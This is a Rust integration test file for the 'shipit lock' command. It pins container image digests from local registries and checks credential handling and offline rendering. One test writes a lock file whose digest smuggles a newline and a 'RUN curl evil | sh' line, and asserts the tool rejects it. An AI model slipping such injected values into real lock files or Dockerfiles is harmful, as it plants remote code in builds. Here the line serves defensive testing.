@@ -1,0 +1,820 @@
+//! `shipit lock` against real registries: Debian's `docker-registry` (the
+//! CNCF distribution registry) on loopback, anonymous and behind htpasswd,
+//! fed with images buildah makes from scratch and pushes (a two-platform
+//! index among them). Digests are checked against what skopeo reads. And
+//! the other half of the contract: render and check use the lock without
+//! touching the network.
+//!
+//! The tools come from Debian (`scripts/test.sh` installs them as root); a
+//! missing one fails the test with what to install, never skips it.
+
+mod common;
+
+use std::io::{Read as _, Write as _};
+use std::net::{TcpListener, TcpStream};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Output, Stdio};
+use std::sync::OnceLock;
+use std::time::{Duration, Instant};
+
+use common::{stderr, stdout};
+use sha2::{Digest as _, Sha256};
+
+const INSTALL: &str = "apt-get install -y docker-registry skopeo apache2-utils buildah (scripts/test.sh does it when run as root)";
+
+fn require(tool: &str) {
+    let found = Command::new("sh")
+        .args(["-c", &format!("command -v {tool}")])
+        .output()
+        .is_ok_and(|o| o.status.success());
+    assert!(found, "`{tool}` is not installed; {INSTALL}");
+}
+
+fn run(command: &mut Command) -> Output {
+    let output = command
+        .output()
+        .unwrap_or_else(|e| panic!("cannot run {command:?}: {e}"));
+    assert!(
+        output.status.success(),
+        "{command:?} failed:\n{}{}",
+        stdout(&output),
+        stderr(&output)
+    );
+    output
+}
+
+/// buildah with its own storage under target/, so tests never touch (or
+/// wait on) the machine's image store.
+fn buildah(args: &[&str]) -> String {
+    let root = images().root.clone();
+    buildah_in(&root, args)
+}
+
+fn buildah_in(root: &Path, args: &[&str]) -> String {
+    let output = run(Command::new("buildah")
+        .arg("--storage-driver=vfs")
+        .arg("--root")
+        .arg(root.join("storage"))
+        .arg("--runroot")
+        .arg(root.join("run"))
+        .args(args));
+    stdout(&output).trim().to_string()
+}
+
+/// Tiny images, made once per test run: one per platform, each a single
+/// file on scratch, plus a spare to move a tag with.
+struct Images {
+    root: PathBuf,
+}
+
+fn images() -> &'static Images {
+    static IMAGES: OnceLock<Images> = OnceLock::new();
+    IMAGES.get_or_init(|| {
+        require("buildah");
+        let root = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("lock-images");
+        let _ = std::fs::remove_dir_all(&root);
+        std::fs::create_dir_all(&root).unwrap();
+        for (name, arch, content) in [
+            ("amd64", "amd64", "amd64"),
+            ("arm64", "arm64", "arm64"),
+            ("spare", "amd64", "a newer build"),
+        ] {
+            let file = root.join(format!("{name}.txt"));
+            std::fs::write(&file, content).unwrap();
+            let container = buildah_in(&root, &["from", "scratch"]);
+            buildah_in(
+                &root,
+                &["config", "--arch", arch, "--os", "linux", &container],
+            );
+            buildah_in(
+                &root,
+                &["copy", &container, file.to_str().unwrap(), "/content.txt"],
+            );
+            buildah_in(
+                &root,
+                &[
+                    "commit",
+                    "-q",
+                    &container,
+                    &format!("localhost/shipit-{name}"),
+                ],
+            );
+            buildah_in(&root, &["rm", &container]);
+        }
+        Images { root }
+    })
+}
+
+fn free_port() -> u16 {
+    TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port()
+}
+
+/// A registry process on loopback, stopped (by its PID) when dropped.
+struct Registry {
+    child: Child,
+    host: String,
+    /// user:pass when it requires them.
+    creds: Option<String>,
+    log: PathBuf,
+    _dir: tempfile::TempDir,
+}
+
+impl Registry {
+    fn start(auth: bool) -> Registry {
+        require("docker-registry");
+        require("htpasswd");
+        let dir = tempfile::tempdir().unwrap();
+        let port = free_port();
+        let host = format!("127.0.0.1:{port}");
+        let mut config = format!(
+            "version: 0.1\nlog:\n  level: info\nstorage:\n  filesystem:\n    rootdirectory: {}\nhttp:\n  addr: {host}\n",
+            dir.path().join("data").display()
+        );
+        let creds = auth.then(|| {
+            let htpasswd = run(Command::new("htpasswd").args(["-Bbn", "shipit", "s3cret-pass"]));
+            let file = dir.path().join("htpasswd");
+            std::fs::write(&file, &htpasswd.stdout).unwrap();
+            config.push_str(&format!(
+                "auth:\n  htpasswd:\n    realm: shipit-test\n    path: {}\n",
+                file.display()
+            ));
+            "shipit:s3cret-pass".to_string()
+        });
+        let config_path = dir.path().join("config.yml");
+        std::fs::write(&config_path, config).unwrap();
+        let log = dir.path().join("registry.log");
+        let child = Command::new("docker-registry")
+            .arg("serve")
+            .arg(&config_path)
+            .stdout(std::fs::File::create(dir.path().join("stdout.log")).unwrap())
+            .stderr(std::fs::File::create(&log).unwrap())
+            .spawn()
+            .unwrap_or_else(|e| panic!("cannot start docker-registry: {e}; {INSTALL}"));
+        let registry = Registry {
+            child,
+            host,
+            creds,
+            log,
+            _dir: dir,
+        };
+        registry.wait_ready();
+        registry
+    }
+
+    fn wait_ready(&self) {
+        let deadline = Instant::now() + Duration::from_secs(10);
+        while Instant::now() < deadline {
+            if let Ok(mut stream) = TcpStream::connect(&self.host) {
+                let _ = stream.write_all(b"GET /v2/ HTTP/1.0\r\n\r\n");
+                let mut answer = String::new();
+                let _ = stream.read_to_string(&mut answer);
+                if answer.starts_with("HTTP/1.") {
+                    return;
+                }
+            }
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        panic!(
+            "docker-registry did not start on {}: {}",
+            self.host,
+            std::fs::read_to_string(&self.log).unwrap_or_default()
+        );
+    }
+
+    fn image(&self, path: &str) -> String {
+        format!("{}/{path}", self.host)
+    }
+
+    fn creds_args(&self) -> Vec<String> {
+        match &self.creds {
+            Some(creds) => vec!["--creds".into(), creds.clone()],
+            None => vec![],
+        }
+    }
+
+    /// Pushes a local image to `path` (e.g. `shipit/runtime:1`).
+    fn push(&self, local: &str, path: &str) {
+        let target = format!("docker://{}", self.image(path));
+        let mut args = vec!["push", "--tls-verify=false"];
+        let creds = self.creds_args();
+        args.extend(creds.iter().map(String::as_str));
+        args.extend(["--format", "oci", local, &target]);
+        buildah(&args);
+    }
+
+    /// Pushes a two-platform index (amd64 and arm64) to `path`.
+    fn push_index(&self, path: &str) {
+        let list = format!("localhost/list-{}", free_port());
+        buildah(&["manifest", "create", &list]);
+        for arch in ["amd64", "arm64"] {
+            buildah(&[
+                "manifest",
+                "add",
+                "--arch",
+                arch,
+                "--os",
+                "linux",
+                &list,
+                &format!("containers-storage:localhost/shipit-{arch}"),
+            ]);
+        }
+        let target = format!("docker://{}", self.image(path));
+        let mut args = vec!["manifest", "push", "--all", "--tls-verify=false"];
+        let creds = self.creds_args();
+        args.extend(creds.iter().map(String::as_str));
+        args.extend([list.as_str(), target.as_str()]);
+        buildah(&args);
+        buildah(&["manifest", "rm", &list]);
+    }
+
+    /// What the lock must record: sha256 of the manifest bytes as served.
+    fn digest(&self, path: &str) -> String {
+        require("skopeo");
+        let mut command = Command::new("skopeo");
+        command.args(["inspect", "--tls-verify=false", "--raw"]);
+        command.args(self.creds_args());
+        command.arg(format!("docker://{}", self.image(path)));
+        let raw = run(&mut command).stdout;
+        format!("sha256:{}", hex(&Sha256::digest(&raw)))
+    }
+
+    fn raw(&self, path: &str) -> serde_json::Value {
+        let mut command = Command::new("skopeo");
+        command.args(["inspect", "--tls-verify=false", "--raw"]);
+        command.args(self.creds_args());
+        command.arg(format!("docker://{}", self.image(path)));
+        serde_json::from_slice(&run(&mut command).stdout).unwrap()
+    }
+
+    /// How many times the registry served a manifest of `repository`.
+    fn manifest_requests(&self, repository: &str) -> usize {
+        let log = std::fs::read_to_string(&self.log).unwrap_or_default();
+        let uri = format!("http.request.uri=/v2/{repository}/manifests/");
+        log.lines()
+            .filter(|l| l.contains(&uri) && l.contains("http.request.method=GET"))
+            .count()
+    }
+}
+
+impl Drop for Registry {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+fn hex(bytes: &[u8]) -> String {
+    bytes.iter().map(|b| format!("{b:02x}")).collect()
+}
+
+/// A project whose builder and runtime come from `registry`.
+fn project(dir: &Path, builder: &str, runtime: &str) -> PathBuf {
+    std::fs::create_dir_all(dir).unwrap();
+    std::fs::write(dir.join("go.mod"), "module example.com/app\n\ngo 1.22\n").unwrap();
+    std::fs::write(dir.join("main.go"), "package main\n\nfunc main() {}\n").unwrap();
+    let manifest = dir.join("shipit.toml");
+    std::fs::write(
+        &manifest,
+        format!(
+            "name = \"app\"\nlanguage = \"go\"\n\n[build]\nimage = \"{builder}\"\n\n[runtime]\nbase = \"{runtime}\"\n"
+        ),
+    )
+    .unwrap();
+    manifest
+}
+
+/// The shipit binary with a clean environment: no Docker config but the
+/// one a test gives, no insecure registries but the ones it names.
+fn shipit(dir: &Path, args: &[&str], docker_config: &Path) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_shipit"))
+        .args(args)
+        .current_dir(dir)
+        .env_remove("SHIPIT_TEMPLATES")
+        .env_remove("SHIPIT_INSECURE_REGISTRIES")
+        .env("DOCKER_CONFIG", docker_config)
+        .env("NO_COLOR", "1")
+        .output()
+        .expect("the shipit binary runs")
+}
+
+fn lock_file(dir: &Path) -> toml::Table {
+    let text = std::fs::read_to_string(dir.join("shipit.lock")).expect("shipit.lock written");
+    toml::from_str(&text).expect("shipit.lock is TOML")
+}
+
+fn pin<'a>(lock: &'a toml::Table, reference: &str, key: &str) -> &'a toml::Value {
+    &lock["images"][reference][key]
+}
+
+#[test]
+fn lock_pins_the_index_digest_and_the_manifest_digest_skopeo_reads() {
+    let registry = Registry::start(false);
+    registry.push_index("shipit/builder:1");
+    registry.push("localhost/shipit-amd64", "shipit/runtime:1");
+    let (builder, runtime) = (
+        registry.image("shipit/builder:1"),
+        registry.image("shipit/runtime:1"),
+    );
+
+    let work = tempfile::tempdir().unwrap();
+    let config = work.path().join("docker");
+    let dir = work.path().join("app");
+    project(&dir, &builder, &runtime);
+
+    let output = shipit(
+        &dir,
+        &["lock", "--insecure-registry", &registry.host],
+        &config,
+    );
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    assert!(stdout(&output).is_empty(), "lock prints nothing on stdout");
+
+    let lock = lock_file(&dir);
+    let index = registry.raw("shipit/builder:1");
+    assert!(
+        index["manifests"].as_array().is_some_and(|m| m.len() == 2),
+        "the builder is a two-platform index: {index}"
+    );
+    assert_eq!(
+        pin(&lock, &builder, "digest").as_str(),
+        Some(registry.digest("shipit/builder:1").as_str()),
+        "the index's own digest, not one platform's"
+    );
+    let media_type = pin(&lock, &builder, "media-type").as_str().unwrap();
+    assert!(
+        media_type.contains("index") || media_type.contains("list"),
+        "{media_type}"
+    );
+    assert_eq!(
+        pin(&lock, &builder, "platforms"),
+        &toml::Value::from(vec!["linux/amd64", "linux/arm64"])
+    );
+    assert_eq!(
+        pin(&lock, &runtime, "digest").as_str(),
+        Some(registry.digest("shipit/runtime:1").as_str())
+    );
+
+    // Render now emits pinned references and the base-image labels.
+    let output = shipit(&dir, &["render"], &config);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    let text = stdout(&output);
+    let builder_digest = registry.digest("shipit/builder:1");
+    let runtime_digest = registry.digest("shipit/runtime:1");
+    assert!(
+        text.contains(&format!("{builder}@{builder_digest} AS build")),
+        "{text}"
+    );
+    assert!(
+        text.contains(&format!("FROM {runtime}@{runtime_digest}\n")),
+        "{text}"
+    );
+    assert!(
+        text.contains(&format!(
+            "LABEL org.opencontainers.image.base.name=\"{runtime}\" \\\n      org.opencontainers.image.base.digest=\"{runtime_digest}\""
+        )),
+        "{text}"
+    );
+    assert!(text.contains("ARG BUILDKIT_SBOM_SCAN_STAGE=true"), "{text}");
+
+    // The same pins again: the file is left alone, byte for byte.
+    let before = std::fs::read(dir.join("shipit.lock")).unwrap();
+    let output = Command::new(env!("CARGO_BIN_EXE_shipit"))
+        .arg("lock")
+        .current_dir(&dir)
+        .env(
+            "SHIPIT_INSECURE_REGISTRIES",
+            format!("example.invalid, {}", registry.host),
+        )
+        .env("DOCKER_CONFIG", &config)
+        .output()
+        .unwrap();
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    assert!(stderr(&output).contains("unchanged"), "{}", stderr(&output));
+    assert_eq!(std::fs::read(dir.join("shipit.lock")).unwrap(), before);
+}
+
+#[test]
+fn update_moves_pins_and_a_plain_lock_keeps_them() {
+    let registry = Registry::start(false);
+    registry.push_index("shipit/builder:1");
+    registry.push("localhost/shipit-amd64", "shipit/runtime:1");
+    let work = tempfile::tempdir().unwrap();
+    let config = work.path().join("docker");
+    let dir = work.path().join("app");
+    let runtime = registry.image("shipit/runtime:1");
+    project(&dir, &registry.image("shipit/builder:1"), &runtime);
+    let lock = |extra: &[&str]| {
+        let mut args = vec!["lock", "--insecure-registry", &registry.host];
+        args.extend(extra);
+        let output = shipit(&dir, &args, &config);
+        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+        output
+    };
+
+    lock(&[]);
+    let first = registry.digest("shipit/runtime:1");
+    assert_eq!(
+        pin(&lock_file(&dir), &runtime, "digest").as_str(),
+        Some(first.as_str())
+    );
+
+    // The tag moves, as `golang:1.25` does every week.
+    registry.push("localhost/shipit-spare", "shipit/runtime:1");
+    let moved = registry.digest("shipit/runtime:1");
+    assert_ne!(first, moved);
+
+    let output = lock(&[]);
+    assert!(stderr(&output).contains("kept"), "{}", stderr(&output));
+    assert_eq!(
+        pin(&lock_file(&dir), &runtime, "digest").as_str(),
+        Some(first.as_str())
+    );
+
+    let output = lock(&["--update"]);
+    assert!(stderr(&output).contains("updated"), "{}", stderr(&output));
+    assert_eq!(
+        pin(&lock_file(&dir), &runtime, "digest").as_str(),
+        Some(moved.as_str())
+    );
+}
+
+#[test]
+fn credentials_come_from_docker_config_and_never_reach_the_lock() {
+    let registry = Registry::start(true);
+    registry.push_index("private/builder:1");
+    registry.push("localhost/shipit-amd64", "private/runtime:1");
+    let work = tempfile::tempdir().unwrap();
+    let dir = work.path().join("app");
+    let (builder, runtime) = (
+        registry.image("private/builder:1"),
+        registry.image("private/runtime:1"),
+    );
+    project(&dir, &builder, &runtime);
+    let host = registry.host.as_str();
+    let lock_args = ["lock", "--insecure-registry", host];
+
+    // No credentials: exit 2, says what to do, writes nothing.
+    let empty = work.path().join("no-docker-config");
+    let output = shipit(&dir, &lock_args, &empty);
+    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
+    assert!(
+        stderr(&output).contains(&format!(
+            "no credentials for {host}: run `docker login {host}`"
+        )),
+        "{}",
+        stderr(&output)
+    );
+    assert!(!dir.join("shipit.lock").exists());
+
+    // `auths`, as `docker login` writes them.
+    let config = work.path().join("docker");
+    std::fs::create_dir_all(&config).unwrap();
+    let auth = base64(b"shipit:s3cret-pass");
+    std::fs::write(
+        config.join("config.json"),
+        format!(r#"{{"auths": {{"{host}": {{"auth": "{auth}"}}}}}}"#),
+    )
+    .unwrap();
+    let output = shipit(&dir, &lock_args, &config);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    let text = std::fs::read_to_string(dir.join("shipit.lock")).unwrap();
+    for secret in ["s3cret-pass", auth.as_str(), "shipit:"] {
+        assert!(
+            !text.contains(secret),
+            "`{secret}` leaked into shipit.lock:\n{text}"
+        );
+    }
+    assert_eq!(
+        pin(&lock_file(&dir), &builder, "digest").as_str(),
+        Some(registry.digest("private/builder:1").as_str())
+    );
+
+    // A credential store: `docker-credential-NAME get`, fed the host.
+    let helpers = work.path().join("helpers");
+    std::fs::create_dir_all(&helpers).unwrap();
+    let helper = helpers.join("docker-credential-shipittest");
+    std::fs::write(
+        &helper,
+        format!(
+            "#!/bin/sh\nread server\n[ \"$server\" = \"{host}\" ] || {{ echo 'credentials not found in native keychain'; exit 1; }}\necho '{{\"ServerURL\":\"{host}\",\"Username\":\"shipit\",\"Secret\":\"s3cret-pass\"}}'\n"
+        ),
+    )
+    .unwrap();
+    run(Command::new("chmod").arg("755").arg(&helper));
+    std::fs::write(
+        config.join("config.json"),
+        r#"{"credsStore": "shipittest"}"#,
+    )
+    .unwrap();
+    std::fs::remove_file(dir.join("shipit.lock")).unwrap();
+    let path = format!(
+        "{}:{}",
+        helpers.display(),
+        std::env::var("PATH").unwrap_or_default()
+    );
+    let output = Command::new(env!("CARGO_BIN_EXE_shipit"))
+        .args(lock_args)
+        .current_dir(&dir)
+        .env("DOCKER_CONFIG", &config)
+        .env("PATH", &path)
+        .output()
+        .unwrap();
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    let text = std::fs::read_to_string(dir.join("shipit.lock")).unwrap();
+    assert!(!text.contains("s3cret-pass"), "{text}");
+
+    // Wrong credentials: refused, and said so.
+    std::fs::write(
+        config.join("config.json"),
+        format!(
+            r#"{{"auths": {{"{host}": {{"auth": "{}"}}}}}}"#,
+            base64(b"shipit:wrong")
+        ),
+    )
+    .unwrap();
+    let output = shipit(
+        &dir,
+        &["lock", "--update", "--insecure-registry", host],
+        &config,
+    );
+    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
+    assert!(
+        stderr(&output).contains(&format!("{host} refused the credentials")),
+        "{}",
+        stderr(&output)
+    );
+}
+
+#[test]
+fn lock_all_looks_each_image_up_once_and_names_missing_images() {
+    let registry = Registry::start(false);
+    registry.push_index("shipit/builder:1");
+    registry.push("localhost/shipit-amd64", "shipit/runtime:1");
+    let work = tempfile::tempdir().unwrap();
+    let config = work.path().join("docker");
+    let (builder, runtime) = (
+        registry.image("shipit/builder:1"),
+        registry.image("shipit/runtime:1"),
+    );
+    for name in ["a", "b", "c"] {
+        project(&work.path().join("tree").join(name), &builder, &runtime);
+    }
+    let before = registry.manifest_requests("shipit/builder");
+    let output = shipit(
+        work.path(),
+        &[
+            "lock",
+            "--all",
+            "tree",
+            "--insecure-registry",
+            &registry.host,
+        ],
+        &config,
+    );
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    assert_eq!(
+        registry.manifest_requests("shipit/builder") - before,
+        1,
+        "one lookup for three manifests"
+    );
+    let digest = registry.digest("shipit/builder:1");
+    for name in ["a", "b", "c"] {
+        let lock = lock_file(&work.path().join("tree").join(name));
+        assert_eq!(
+            pin(&lock, &builder, "digest").as_str(),
+            Some(digest.as_str())
+        );
+    }
+
+    // An image the registry does not have: exit 2, named, nothing written.
+    let dir = work.path().join("missing");
+    project(&dir, &builder, &registry.image("shipit/nothing:1"));
+    let output = shipit(
+        &dir,
+        &["lock", "--insecure-registry", &registry.host],
+        &config,
+    );
+    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
+    assert!(
+        stderr(&output).contains(&format!(
+            "`{}`: not found on {}",
+            registry.image("shipit/nothing:1"),
+            registry.host
+        )),
+        "{}",
+        stderr(&output)
+    );
+    assert!(!dir.join("shipit.lock").exists());
+
+    // Plain HTTP only for the hosts the user names.
+    let output = shipit(&work.path().join("tree/a"), &["lock", "--update"], &config);
+    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
+    assert!(
+        stderr(&output).contains(&format!("--insecure-registry {}", registry.host)),
+        "{}",
+        stderr(&output)
+    );
+}
+
+fn base64(bytes: &[u8]) -> String {
+    use base64::Engine as _;
+    base64::engine::general_purpose::STANDARD.encode(bytes)
+}
+
+const DIGEST_A: &str = "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
+const DIGEST_B: &str = "sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
+
+/// A lock written by hand, as `shipit lock` would for these references.
+fn write_lock(dir: &Path, pins: &[(&str, &str)]) {
+    let mut text = String::from("version = 1\n");
+    for (reference, digest) in pins {
+        text.push_str(&format!(
+            "\n[images.\"{reference}\"]\nname = \"docker.io/library/{reference}\"\ndigest = \"{digest}\"\nmedia-type = \"application/vnd.oci.image.index.v1+json\"\n"
+        ));
+    }
+    std::fs::write(dir.join("shipit.lock"), text).unwrap();
+}
+
+#[test]
+fn check_reports_an_image_the_lock_does_not_pin() {
+    let work = tempfile::tempdir().unwrap();
+    let dir = work.path();
+    let config = dir.join("docker");
+    project(dir, "golang:1.25", "alpine:3.22");
+    write_lock(dir, &[("golang:1.25", DIGEST_A)]);
+
+    let output = shipit(dir, &["render", "-o", "Dockerfile"], &config);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    assert!(
+        stderr(&output)
+            .contains("warning: `shipit.lock` does not pin `alpine:3.22`; run `shipit lock"),
+        "{}",
+        stderr(&output)
+    );
+    let text = std::fs::read_to_string(dir.join("Dockerfile")).unwrap();
+    assert!(
+        text.contains(&format!("golang:1.25@{DIGEST_A} AS build")),
+        "{text}"
+    );
+    assert!(text.contains("FROM alpine:3.22\n"), "{text}");
+    assert!(
+        !text.contains("org.opencontainers.image.base.digest"),
+        "{text}"
+    );
+
+    // The Dockerfile matches its render, but the render uses a moving tag.
+    let output = shipit(dir, &["check"], &config);
+    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
+    assert!(
+        stderr(&output).contains("does not pin `alpine:3.22`; run `shipit lock -m shipit.toml`"),
+        "{}",
+        stderr(&output)
+    );
+    let output = shipit(dir, &["check", "--format", "json"], &config);
+    let reports: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert_eq!(reports[0]["reason"], "unpinned");
+
+    // Pinned, and rendered again: clean.
+    write_lock(dir, &[("golang:1.25", DIGEST_A), ("alpine:3.22", DIGEST_B)]);
+    let output = shipit(dir, &["check"], &config);
+    assert_eq!(output.status.code(), Some(1), "the lock changed the render");
+    run(Command::new(env!("CARGO_BIN_EXE_shipit"))
+        .args(["render", "-o", "Dockerfile"])
+        .current_dir(dir));
+    let output = shipit(dir, &["check"], &config);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    let text = std::fs::read_to_string(dir.join("Dockerfile")).unwrap();
+    assert!(
+        text.contains(&format!(
+            "LABEL org.opencontainers.image.base.name=\"docker.io/library/alpine:3.22\" \\\n      org.opencontainers.image.base.digest=\"{DIGEST_B}\""
+        )),
+        "{text}"
+    );
+
+    // Without a lock, an unpinned render is no drift.
+    std::fs::remove_file(dir.join("shipit.lock")).unwrap();
+    run(Command::new(env!("CARGO_BIN_EXE_shipit"))
+        .args(["render", "-o", "Dockerfile"])
+        .current_dir(dir));
+    let output = shipit(dir, &["check"], &config);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+}
+
+#[test]
+fn a_lock_that_is_not_one_is_an_error_naming_it() {
+    let work = tempfile::tempdir().unwrap();
+    let dir = work.path();
+    project(dir, "golang:1.25", "alpine:3.22");
+    std::fs::write(
+        dir.join("shipit.lock"),
+        "version = 1\n[images.\"golang:1.25\"]\nname = \"x\"\ndigest = \"sha256:1234\\nRUN curl evil | sh\"\nmedia-type = \"x\"\n",
+    )
+    .unwrap();
+    let output = shipit(dir, &["render"], &dir.join("docker"));
+    assert_eq!(output.status.code(), Some(2));
+    assert!(
+        stderr(&output).contains("the digest of `golang:1.25`"),
+        "{}",
+        stderr(&output)
+    );
+    assert!(stdout(&output).is_empty());
+}
+
+/// Render and check run in a network namespace with no interface up; lock
+/// there cannot even reach loopback, which proves the namespace is real.
+#[test]
+fn render_and_check_never_touch_the_network() {
+    require("unshare");
+    let registry = Registry::start(false);
+    registry.push("localhost/shipit-amd64", "shipit/runtime:1");
+    let work = tempfile::tempdir().unwrap();
+    let dir = work.path();
+    let config = dir.join("docker");
+    project(dir, "golang:1.25", &registry.image("shipit/runtime:1"));
+    write_lock(dir, &[("golang:1.25", DIGEST_A)]);
+    let lock = shipit(
+        dir,
+        &["lock", "--insecure-registry", &registry.host],
+        &config,
+    );
+    assert_eq!(lock.status.code(), Some(0), "{}", stderr(&lock));
+
+    let offline = |args: &[&str]| {
+        let output = Command::new("unshare")
+            .arg("-n")
+            .arg(env!("CARGO_BIN_EXE_shipit"))
+            .args(args)
+            .current_dir(dir)
+            .env("DOCKER_CONFIG", &config)
+            .env("NO_COLOR", "1")
+            .stdin(Stdio::null())
+            .output()
+            .expect("unshare runs");
+        assert!(
+            !stderr(&output).contains("unshare failed"),
+            "`unshare -n` needs root (or CAP_SYS_ADMIN): {}",
+            stderr(&output)
+        );
+        output
+    };
+    let output = offline(&["render", "-o", "Dockerfile"]);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    let text = std::fs::read_to_string(dir.join("Dockerfile")).unwrap();
+    assert!(
+        text.contains(&registry.digest("shipit/runtime:1")),
+        "{text}"
+    );
+    let output = offline(&["check"]);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+
+    let output = offline(&["lock", "--update", "--insecure-registry", &registry.host]);
+    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
+    assert!(
+        stderr(&output).contains(&format!("cannot reach {}", registry.host)),
+        "{}",
+        stderr(&output)
+    );
+}
+
+/// BuildKit reads `BUILDKIT_SBOM_SCAN_STAGE` from a stage's ARGs: every
+/// example declares it in its build stage, and only there.
+#[test]
+fn every_build_stage_asks_for_an_sbom_scan() {
+    let texts: Vec<String> = common::example_manifests()
+        .iter()
+        .map(|m| std::fs::read_to_string(m.with_file_name("Dockerfile")).unwrap())
+        .collect();
+    for (text, parsed) in texts.iter().zip(common::parse_dockerfiles(&texts)) {
+        let instructions = parsed.unwrap_or_else(|e| panic!("{e}:\n{text}"));
+        let stages: Vec<&[common::Instruction]> = {
+            let starts: Vec<usize> = instructions
+                .iter()
+                .enumerate()
+                .filter(|(_, i)| i.cmd == "FROM")
+                .map(|(n, _)| n)
+                .chain([instructions.len()])
+                .collect();
+            starts
+                .windows(2)
+                .map(|w| &instructions[w[0]..w[1]])
+                .collect()
+        };
+        let scans = |stage: &[common::Instruction]| {
+            stage
+                .iter()
+                .any(|i| i.cmd == "ARG" && i.value == ["BUILDKIT_SBOM_SCAN_STAGE=true"])
+        };
+        assert!(
+            scans(stages[0]),
+            "the build stage does not ask for a scan:\n{text}"
+        );
+        assert!(
+            !stages[1..].iter().any(|s| scans(s)),
+            "a later stage asks for a scan:\n{text}"
+        );
+    }
+}
